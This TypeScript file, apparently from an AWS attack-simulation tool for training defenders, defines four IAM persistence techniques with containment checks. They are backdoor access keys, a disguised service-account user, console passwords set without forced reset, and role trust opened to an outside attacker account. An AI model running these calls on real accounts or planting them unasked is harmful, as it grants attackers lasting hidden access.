import { apiCall, createdKeyIds, keyRevoked, outsideTrustPolicy, succeeded, targetUser, trustsAccount, whoamiOnly } from '../calls.js';
import { param } from '../params.js';
import { defineTechnique, type Technique } from '../technique.js';

const additionalCredentials = { id: 'T1098.001', name: 'Account Manipulation: Additional Cloud Credentials' };

export const backdoorAccessKey = defineTechnique({
  id: 'backdoor-access-key',
  name: 'Create a backdoor access key',
  tactic: 'persistence',
  mitre: additionalCredentials,
  description:
    "Create a second access key for the key's own user, so access survives when the first key is revoked. Blue teams who deactivate only the leaked key miss it. Contained once the new key is inactive or deleted.",
  calls: ['iam:CreateAccessKey'],
  params: {},
  findingTypes: ['Persistence:IAMUser/AnomalousBehavior', 'UnauthorizedAccess:IAMUser/TorIPCaller'],
  plan: (_params, context) => [apiCall('iam', 'CreateAccessKey', {}, context.region)],
  isContained: (_params, outcomes, state) => createdKeyIds(outcomes).every((id) => keyRevoked(state, id)),
});

export const backdoorUser = defineTechnique({
  id: 'create-backdoor-user',
  name: 'Create a backdoor IAM user',
  tactic: 'persistence',
  mitre: { id: 'T1136.003', name: 'Create Account: Cloud Account' },
  description:
    'Create a new IAM user with a name that looks like a service account, then create an access key for it. Contained once the user is deleted or has no active key.',
  calls: ['iam:CreateUser', 'iam:CreateAccessKey'],
  params: {
    newUserName: param.user(true, { label: 'New user name', defaultValue: 'svc-backup-agent', help: 'Name of the user to create.' }),
  },
  findingTypes: ['Persistence:IAMUser/AnomalousBehavior', 'UnauthorizedAccess:IAMUser/TorIPCaller'],
  plan: (params, context) => [
    apiCall('iam', 'CreateUser', { userName: params.newUserName }, context.region),
    apiCall('iam', 'CreateAccessKey', { userName: params.newUserName }, context.region),
  ],
  isContained: (params, outcomes, state) => {
    if (succeeded(outcomes, 'CreateUser').length === 0) return true;
    if (state.users[params.newUserName] === undefined) return true;
    return Object.values(state.accessKeys).every((key) => key.userName !== params.newUserName || key.status !== 'Active');
  },
});

export const loginProfile = defineTechnique({
  id: 'create-login-profile',
  name: 'Give a user a console password',
  tactic: 'persistence',
  mitre: additionalCredentials,
  description:
    'Create a console password for a user who has none, such as a service account, and sign in to the console with it later. Access keys do not cover this way in. Contained once the login profile is deleted.',
  calls: ['iam:CreateLoginProfile'],
  params: {
    userName: param.user(false, { label: 'User', help: "User to give a password; empty for the key's owner." }),
  },
  findingTypes: ['Persistence:IAMUser/AnomalousBehavior', 'UnauthorizedAccess:IAMUser/TorIPCaller'],
  plan: (params, context) => {
    const userName = targetUser(params.userName, context.state, params.accessKey);
    if (userName === undefined) return whoamiOnly(context.region);
    return [apiCall('iam', 'CreateLoginProfile', { userName, passwordResetRequired: false }, context.region)];
  },
  isContained: (_params, outcomes, state) =>
    succeeded(outcomes, 'CreateLoginProfile').every((outcome) => {
      const user = state.users[String(outcome.call.params.userName)];
      return user === undefined || user.loginProfile === null;
    }),
});

export const backdoorRoleTrust = defineTechnique({
  id: 'backdoor-role-trust',
  name: 'Let an outside account assume a role',
  tactic: 'persistence',
  mitre: { id: 'T1098.003', name: 'Account Manipulation: Additional Cloud Roles' },
  description:
    "Replace a role's trust policy so that the attacker's own AWS account can assume it from outside. No key in this account is needed afterwards. Contained once the trust policy no longer names the outside account.",
  calls: ['iam:UpdateAssumeRolePolicy'],
  params: {
    roleName: param.role({ label: 'Role', help: 'Role to open to the outside account.' }),
    outsideAccountId: param.accountId({ label: 'Outside account', defaultValue: '666666666666', help: "The attacker's AWS account id." }),
  },
  findingTypes: ['Persistence:IAMUser/AnomalousBehavior', 'UnauthorizedAccess:IAMUser/TorIPCaller'],
  plan: (params, context) => [apiCall('iam', 'UpdateAssumeRolePolicy', { roleName: params.roleName, policyDocument: outsideTrustPolicy(params.outsideAccountId) }, context.region)],
  isContained: (params, outcomes, state) => {
    if (succeeded(outcomes, 'UpdateAssumeRolePolicy').length === 0) return true;
    const role = state.roles[params.roleName];
    return role === undefined || !trustsAccount(role.trustPolicy, params.outsideAccountId);
  },
});

export const persistenceTechniques: Technique[] = [backdoorAccessKey, backdoorUser, loginProfile, backdoorRoleTrust];
